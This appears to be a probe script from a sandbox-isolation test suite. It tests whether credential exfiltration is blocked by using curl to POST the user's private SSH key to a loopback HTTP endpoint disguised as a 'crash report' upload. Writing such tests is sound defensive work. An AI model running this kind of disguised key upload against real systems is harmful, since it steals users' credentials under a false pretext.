# family: injection
# tries: POST the user's SSH key to an HTTP server on the host's loopback with curl, as a "crash report upload" would
# source: https://attack.mitre.org/techniques/T1048/
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
[ $# -ge 8 ] || { echo "usage: $0 TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES" >&2; exit 2; }
command -v curl >/dev/null 2>&1 || { echo "CANNOT $1 curl is not installed" >&2; exit 3; }
(echo "ATTEMPTED $1" >&2)
curl -s -o /dev/null --max-time 2 --data-binary "@$2/.ssh/id_ed25519" \
	"http://127.0.0.1:$4/crash-report" 2>&1 && echo "uploaded"
